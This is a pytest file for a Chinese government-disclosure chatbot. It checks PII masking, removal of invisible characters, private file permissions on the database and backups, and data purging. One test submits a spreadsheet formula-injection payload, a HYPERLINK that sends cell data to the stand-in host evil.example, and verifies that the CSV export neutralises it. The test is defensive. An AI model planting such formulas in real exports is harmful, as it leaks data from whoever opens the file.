"""Personal data stays where it belongs: masked in the staff group and in exports, never
in files others can read, gone after purge; invisible characters never get in."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import sys
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.clock import FixedClock
from bot.ops import PURGED, backup, purge
from bot.privacy import mask_free_text
from bot.services import Services
from bot.staff.documents import Upload
from bot.store import open_database
from bot.textnorm import strip_invisible
from bot.validators import InvalidField, email, name
from cli import cli
from cli.cases import spreadsheet_safe
from tests.helpers import VALID_ID, Resident, begin_application, fill_application

PHONE = "13812348000"


def test_free_text_masks_ids_phones_emails_addresses_and_names() -> None:
    text = (f"我叫王小明，身份证{VALID_ID}，电话138-1234-8000，邮箱wang.xm@example.com，"
            "住在新城区长安路88号3栋2单元501室，座机0375-2345678，请公开拆迁文件")
    masked = mask_free_text(text)
    for secret in ("王小明", VALID_ID, "1234-8000", "wang.xm", "长安路88号", "2345678"):
        assert secret not in masked
    assert "请公开拆迁文件" in masked and "@example.com" in masked
    english = mask_free_text("My name is John Smith, I live at 12 Baker Street, "
                             "call +86 13812348000")
    assert "John Smith" not in english and "Baker" not in english and PHONE not in english


def test_free_text_keeps_what_is_not_personal() -> None:
    text = "申请公开2025年新城区城中村改造项目的征收补偿方案，文号平新管〔2025〕12号；我是居民"
    assert mask_free_text(text) == text
    assert mask_free_text("张三的材料", known=["张三"]) == "张*的材料"


def test_every_invisible_or_bidirectional_character_is_stripped() -> None:
    format_chars = [chr(c) for c in range(sys.maxunicode + 1)
                    if unicodedata.category(chr(c)) == "Cf"]
    fillers = ["\u115f", "\u1160", "\u3164", "\uffa0", "\u034f", "\u2800"]
    assert strip_invisible("".join(format_chars + fillers) + "ok") == "ok"
    assert strip_invisible("收费 吗？😀\n") == "收费 吗？😀\n"


@pytest.mark.parametrize("raw", ["\u3164\u3164", "\u115f\u1160\u3164", "\U000e0041\U000e0042"])
def test_a_name_made_of_fillers_is_refused(raw: str) -> None:
    with pytest.raises(InvalidField):
        name(raw)


def test_emails_and_names_lose_invisible_characters() -> None:
    assert email("zhang\u202e@exam\u200bple.com") == "zhang@example.com"
    assert name("张\u3164三\U000e0041") == "张三"


def test_staff_notes_and_replies_lose_invisible_characters(services: Services) -> None:
    person = Resident(services.assistant, 42)
    fill_application(person)
    person.press_label("确认提交")
    number = services.repo.list_cases()[0].number
    Resident(services.assistant, 500).say(f"/note {number} 已电话\u202e联系\u200b申请人")
    notes = [e.note for e in services.repo.case_events(services.repo.list_cases()[0].id)]
    assert "已电话联系申请人" in notes


def test_the_staff_group_sees_free_text_masked_and_staff_get_it_in_full_privately(
        services: Services) -> None:
    person = Resident(services.assistant, 42)
    begin_application(person)
    person.press_label("居民身份证")
    person.say(VALID_ID)
    person.say(PHONE)
    person.press_label("跳过")
    person.say(f"我叫张三，电话{PHONE}，身份证{VALID_ID}，请公开补偿方案")
    person.press_label("跳过")
    person.press_label("电子版")
    person.press_label("网上")
    outs = person.press_label("确认提交")
    [notice] = [o for o in outs if o.chat_id == -1000]
    for secret in ("张三", PHONE, VALID_ID):
        assert secret not in notice.text
    assert "请公开" in notice.text
    number = services.repo.list_cases()[0].number
    staff = Resident(services.assistant, 500)
    detail = staff.say(f"/case {number}")
    assert f"电话{PHONE}" in detail[0].text  # the full record, in a private chat


def test_questions_left_for_staff_are_masked_in_the_group(services: Services) -> None:
    person = Resident(services.assistant, 42)
    person.say("一个知识库里没有的问题：火星上的档案馆")
    person.press("leave")
    outs = person.say(f"我叫李四，电话{PHONE}，想问拆迁补偿")
    [notice] = [o for o in outs if o.chat_id == -1000]
    assert "李四" not in notice.text and PHONE not in notice.text
    private = Resident(services.assistant, 500).say("/questions")
    assert PHONE in private[0].text


def test_csv_export_neutralises_formulas_and_lists_each_column_once(services: Services) -> None:
    person = Resident(services.assistant, 42)
    begin_application(person)
    person.press_label("居民身份证")
    person.say(VALID_ID)
    person.say(PHONE)
    person.press_label("跳过")
    person.say('=HYPERLINK("http://evil.example/?"&A1,"点击查看补偿方案")')
    person.press_label("跳过")
    person.press_label("电子版")
    person.press_label("网上")
    person.press_label("确认提交")
    env = {"DISCLOSURE_DB": str(services.settings.db_path)}
    result = CliRunner().invoke(cli, ["cases", "export", "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    header, *rows = list(csv.reader(io.StringIO(result.output)))
    assert header.count("applicant_type") == 1
    description = rows[0][header.index("description")]
    assert description.startswith("'=HYPERLINK")
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(start + "cmd") == "'" + start + "cmd"
    assert spreadsheet_safe("平新管〔2025〕12号") == "平新管〔2025〕12号"
    assert spreadsheet_safe(3) == 3


def test_database_wal_and_backups_are_private_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0)
    try:
        path = tmp_path / "data" / "bot.db"
        db = open_database(path)
        db.execute("insert into meta (key, value) values ('k', 'v')")
        modes = {p.name: p.stat().st_mode & 0o777 for p in path.parent.iterdir()}
        assert modes["bot.db"] == 0o600
        assert modes.get("bot.db-wal", 0o600) == 0o600 and modes.get("bot.db-shm", 0o600) == 0o600
        assert {"bot.db-wal", "bot.db-shm"} <= set(modes)
        assert path.parent.stat().st_mode & 0o077 == 0
        backup(path, tmp_path / "backup.db")
        assert (tmp_path / "backup.db").stat().st_mode & 0o777 == 0o600
        db.close()
        loose = tmp_path / "loose.db"
        sqlite3.connect(loose).close()
        os.chmod(loose, 0o666)
        open_database(loose).close()
        assert loose.stat().st_mode & 0o777 == 0o600
        shared = tmp_path / "shared.db"
        open_database(shared, mode=0o640).close()
        assert shared.stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(old)


RESIDENT_ID = 987654321
SECRETS = ("张三", VALID_ID, PHONE, "长安路88号", "居民来信内容", "工作人员答复内容",
           "内部备注内容", "evidence-file-id", "证据.pdf", "留言问题内容", "留言答复内容",
           "待发通知内容", "resident_zs", str(RESIDENT_ID))


def _every_value(db_path: Path) -> tuple[set[str], str]:
    conn = sqlite3.connect(db_path)
    tables = {r[0] for r in conn.execute("select name from sqlite_master where type = 'table' "
                                         "and name not like 'sqlite_%'")}
    dump = []
    for table in tables:
        for row in conn.execute(f"select * from {table}"):
            dump.extend(str(v) for v in row)
    conn.close()
    return tables, "\n".join(dump)


def test_purge_leaves_nothing_that_identifies_a_person(services: Services,
                                                        clock: FixedClock) -> None:
    """Every table holds personal data before; none of it survives purge, and what the
    annual report counts does."""
    repo = services.repo
    person = Resident(services.assistant, RESIDENT_ID)
    person.say("/lang zh")
    repo.remember_staff(RESIDENT_ID, "resident_zs", "")
    begin_application(person)
    person.press_label("居民身份证")
    person.say(VALID_ID)
    person.say(PHONE)
    person.press_label("跳过")
    person.say("居民来信内容：张三住在新城区长安路88号，请公开补偿方案")
    person.press_label("跳过")
    person.press_label("电子版")
    person.press_label("网上")
    person.press_label("确认提交")
    [case] = repo.list_cases()
    number = case.number
    repo.db.execute("insert into evidence (case_id, file_id, kind, mime, size, name) values "
                    "(?, 'evidence-file-id', 'document', 'application/pdf', 10, '证据.pdf')",
                    (case.id,))
    staff = Resident(services.assistant, 500)
    staff.say(f"/note {number} 内部备注内容 张三 {PHONE}")
    staff.say(f"/answer {number} 1 工作人员答复内容 张三")
    staff.say(f"/close {number}")
    person.say("一个知识库里没有的问题：火星上的档案馆")
    person.press("leave")
    person.say("留言问题内容 张三")
    left = repo.open_staff_questions()[0]["number"]
    staff.say(f"/reply {left} 留言答复内容")
    repo.db.execute("insert into outbox (chat_id, text, buttons, created_at, sent_at) values "
                    "(?, '待发通知内容 张三', '[]', ?, ?)", (RESIDENT_ID, repo.now_iso(),
                                                      repo.now_iso()))
    repo.first_delivery(123)
    # the web desk: a login link and a session whose last search was a name
    repo.add_login_token("login-token-hash", 500, repo.now_iso())
    repo.add_web_session("session-token-hash", 500, "csrf-token", repo.now_iso())
    repo.set_web_session_search("session-token-hash", "张三")
    # a vote on an answer, so the feedback table is filled too
    person.say("申请要收费吗")
    person.press(next(d for _, d in person.buttons() if d.endswith(":1")))
    repo.save_draft(RESIDENT_ID, "complain", chat_id=RESIDENT_ID, lang="zh", step="details",
                    data={"details": "居民来信内容"}, expiry_days=7)
    # a file kept with the case at the web desk, named after the person
    scan = Upload("张三的来信.pdf", b"%PDF scan " + VALID_ID.encode())
    services.workflow.keep_file(number, 500, "other", scan)
    repo.record_knowledge_load("start", len(services.engine.kb.topics))

    tables, before = _every_value(services.settings.db_path)
    empty = {t for t in tables
             if repo.one(f"select count(*) as n from {t}")["n"] == 0}  # type: ignore[index]
    assert empty == set(), f"fill these tables in the test: {empty}"
    assert all(secret in before for secret in SECRETS)

    clock.advance(days=40 * 30)
    plan = purge(repo, 36, apply=True, staff=services.settings.staff)
    assert plan.cases == [number]
    _, after = _every_value(services.settings.db_path)
    survivors = [secret for secret in SECRETS if secret in after]
    assert survivors == []
    kept = repo.case_by_number(number)
    assert kept is not None and kept.outcome == "1" and kept.applicant_type == "natural"
    assert kept.received_at and kept.answered_at and kept.data["medium"] == "electronic"
    assert kept.data["name"] == PURGED
